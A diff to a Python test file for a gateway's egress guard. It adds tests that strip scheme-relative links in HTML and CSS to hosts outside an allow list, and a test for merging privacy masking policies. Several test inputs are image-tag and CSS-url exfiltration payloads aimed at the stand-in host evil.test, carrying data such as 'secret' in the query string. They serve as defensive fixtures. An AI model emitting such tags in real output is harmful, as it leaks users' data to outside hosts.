@@ -15,7 +15,7 @@ from enum import StrEnum
 import pytest
 from pydantic import BaseModel, ConfigDict
 
-from gateway.egress import EgressGuard, error_guard, strip_foreign_links
+from gateway.egress import EgressGuard, collection_policy, error_guard, strip_foreign_links
 from hqg.errors import PrivacyError
 from privacy.detector import PresidioDetector
 from privacy.masker import mask_text
@@ -206,3 +206,35 @@ def test_model_links_and_images_to_hosts_not_in_evidence_are_stripped(
     text: str, expected: str
 ) -> None:
     assert strip_foreign_links(text, allowed_hosts={"docs.acme.test"}) == expected
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("<img src=//evil.test/x?d=Tyler_West>", "<img src=[link removed]>"),
+        ('<img src="//evil.test/a?d=secret">', '<img src="[link removed]">'),
+        (
+            "<div style='background:url(//evil.test/?d=2)'>",
+            "<div style='background:url([link removed])'>",
+        ),
+        ("<img src=//docs.acme.test/logo.png>", "<img src=//docs.acme.test/logo.png>"),
+        ("// a comment, and a/b//c stay", "// a comment, and a/b//c stay"),
+    ],
+)
+def test_scheme_relative_urls_in_html_and_css_are_links_too(text: str, expected: str) -> None:
+    assert strip_foreign_links(text, allowed_hosts={"docs.acme.test"}) == expected
+
+
+def test_several_collections_mask_a_type_with_the_strictest_kind_any_of_them_applies() -> None:
+    policy = collection_policy(
+        [
+            {"PERSON": MaskKind.NULL, "PHONE_NUMBER": MaskKind.PARTIAL},
+            {"PERSON": MaskKind.PARTIAL, "*": MaskKind.REDACT},
+            {},
+        ]
+    )
+    assert policy == {
+        "PERSON": MaskKind.NULL,
+        "PHONE_NUMBER": MaskKind.REDACT,
+        "*": MaskKind.REDACT,
+    }
